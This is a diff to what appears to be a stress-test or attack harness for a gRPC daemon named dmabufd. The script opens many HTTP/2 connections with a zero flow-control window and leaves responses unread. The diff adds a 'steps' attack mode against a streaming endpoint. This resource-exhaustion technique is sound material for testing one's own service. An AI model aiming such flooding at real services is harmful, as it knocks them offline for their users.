@@ -28,12 +28,12 @@ def ask_for_fds():
             pass
 
 
-def ask_on_control(path, streams, window):
+def ask_on_control(path, streams, window, body=http2.message()):
     """Calls of which no answer is read: the window is closed, or the socket is not read."""
     for _ in range(16):
         connection = http2.connect(directory, window)
         kept.append(connection)
-        block, body = http2.fields(path, token), http2.message()
+        block = http2.fields(path, token)
         connection.setblocking(False)
         try:
             for stream in range(streams):
@@ -52,6 +52,8 @@ elif attack == "window":
     ask_on_control("/dmabufd.v1.DaemonService/GetDaemonStatus", 128, 0)
 elif attack == "reflection":
     ask_on_control("/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", 128, 0)
+elif attack == "steps":
+    ask_on_control("/dmabufd.v1.AccessService/StreamCpuAccesses", 128, 0, http2.end_steps(1000))
 else:
     ask_on_control("/dmabufd.v1.EventService/WatchEvents", 4, 0)
 peer.under_way()
